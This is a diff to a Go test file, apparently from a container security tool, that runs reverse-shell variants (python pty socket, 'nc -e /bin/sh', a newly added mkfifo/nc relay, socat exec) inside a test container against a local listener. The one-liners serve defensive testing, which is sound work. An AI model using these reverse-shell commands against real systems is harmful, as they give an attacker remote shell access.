@@ -286,19 +286,26 @@ s=socket.socket(); s.connect(("127.0.0.1",%d))
 pty.spawn("/bin/sh")`, port)}
 		}},
 		{"nc -e", "nc", func(port int) []string { return []string{"nc", "-e", "/bin/sh", "127.0.0.1", fmt.Sprint(port)} }},
+		{"mkfifo relay through nc", "nc", func(port int) []string {
+			fifo := filepath.Join(os.TempDir(), "redoubt-fifo-"+fmt.Sprint(port))
+			return []string{"sh", "-c", fmt.Sprintf("rm -f %[1]s; mkfifo %[1]s; cat %[1]s | /bin/sh -i 2>&1 | nc -q1 127.0.0.1 %[2]d > %[1]s; rm -f %[1]s", fifo, port)}
+		}},
 		{"socat exec", "socat", func(port int) []string {
 			return []string{"socat", fmt.Sprintf("tcp:127.0.0.1:%d", port), "exec:/bin/sh,pty,stderr"}
 		}},
 	}
 	for _, tc := range cases {
 		t.Run(tc.name, func(t *testing.T) {
-			path, err := exec.LookPath(tc.need)
-			if err != nil {
+			if _, err := exec.LookPath(tc.need); err != nil {
 				t.Skipf("%s is not installed here: cannot run this variant", tc.need)
 			}
 			c := newContainer(t, podUID)
 			port, got := shellListener(t, commands)
 			args := tc.cmd(port)
+			path, err := exec.LookPath(args[0])
+			if err != nil {
+				t.Fatal(err)
+			}
 			c.run(t, path, args[1:]...)
 			if reply := <-got; !strings.Contains(reply, "REDOUBT_42") {
 				t.Fatalf("the reverse shell did not answer the listener (got %q): the attack did not run", reply)
